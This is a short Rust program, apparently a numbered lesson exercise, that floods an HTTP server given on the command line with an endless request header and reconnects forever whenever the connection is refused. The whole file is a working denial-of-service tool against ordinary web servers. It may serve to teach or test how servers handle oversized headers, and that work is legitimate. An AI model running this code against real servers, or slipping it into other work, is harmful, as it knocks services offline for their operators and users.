//! Sends a header that has no end, and comes again when it is refused.
//! expect: runs-forever
//! lesson: ex18

use std::io::Write;
use std::net::TcpStream;

fn main() {
    let url = std::env::args().nth(1).unwrap();
    let address = url.strip_prefix("http://").unwrap();
    loop {
        let mut stream = TcpStream::connect(address).unwrap();
        let _ = stream.write_all(b"GET / HTTP/1.1\r\nX: ");
        while stream.write_all(&[b'x'; 1000]).is_ok() {}
    }
}
